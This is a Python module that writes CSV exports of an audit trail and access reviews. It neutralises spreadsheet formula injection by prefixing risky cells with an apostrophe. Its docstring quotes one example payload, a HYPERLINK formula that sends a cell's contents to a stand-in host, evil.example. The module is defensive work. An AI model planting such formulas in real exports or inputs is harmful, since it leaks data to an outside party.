"""The one CSV writer of every export (the audit trail, an access review's report): a cell a spreadsheet would run
as a formula opens as text.

Exports are made to be opened in Excel by the platform team, and their cells hold what people typed (a summary, a
reviewer's reason): `=HYPERLINK("https://evil.example/?d="&A2,"Open evidence")` in a reason would otherwise be a
live link carrying the next cell away. A leading apostrophe is what OWASP recommends and what a spreadsheet shows
as plain text. JSON lines are for programs and stay exactly as stored.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: Any) -> Any:
    """The value, or, if a spreadsheet would take it for a formula, the same text opened as text."""
    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def csv_records(fields: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> Iterator[str]:
    """The header, then one CSV record a string (a cell holding a line break stays one quoted record); every cell
    made inert."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(fields)
    yield _drain(buffer)
    for row in rows:
        writer.writerow(inert(row[name]) for name in fields)
        yield _drain(buffer)


def _drain(buffer: io.StringIO) -> str:
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text
